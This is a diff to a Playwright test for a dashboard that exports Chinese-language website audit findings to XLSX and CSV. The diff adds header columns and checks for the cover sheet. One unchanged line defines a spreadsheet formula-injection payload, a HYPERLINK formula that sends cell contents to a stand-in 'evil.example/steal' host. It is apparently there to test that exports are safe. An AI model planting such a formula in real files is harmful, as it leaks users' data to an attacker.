@@ -12,7 +12,7 @@ import type { Page } from 'playwright-core';
 import { fixture, launch, serve, storedFindings, waitFor, type Browser, type Site, inExtension } from './harness';
 
 const EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")';
-const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注'];
+const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注', '整改期限', '责任人', '整改情况'];
 
 let site: Site;
 let b: Browser;
@@ -104,6 +104,8 @@ describe('dashboard in Chromium', () => {
 
     // Export everything, XLSX and CSV, through the browser's download.
     await dash.selectOption('[data-testid="export-scope"]', 'all');
+    // Everything, 提示 included (left out by default).
+    await dash.check('[data-testid="export-info"]');
     const xlsxPath = await download(dash, 'export-xlsx', b.downloads);
     expect(xlsxPath).toMatch(/整改清单-\d{8}-\d{4}\.xlsx$/);
     const wb = new ExcelJS.Workbook();
@@ -125,6 +127,8 @@ describe('dashboard in Chromium', () => {
     expect(rows.filter((r) => r.getCell(13).value === '已忽略').length).toBe(emptyCount);
     expect(rows.every((r) => ['严重', '一般', '提示'].includes(String(r.getCell(7).value)))).toBe(true);
     expect(wb.getWorksheet('汇总')).toBeTruthy();
+    const cover = wb.getWorksheet('封面')!;
+    expect(cover.getRow(6).values).toEqual([undefined, '范围', '全部问题']);
 
     const csvPath = await download(dash, 'export-csv', b.downloads);
     const csv = readFileSync(csvPath, 'utf8');
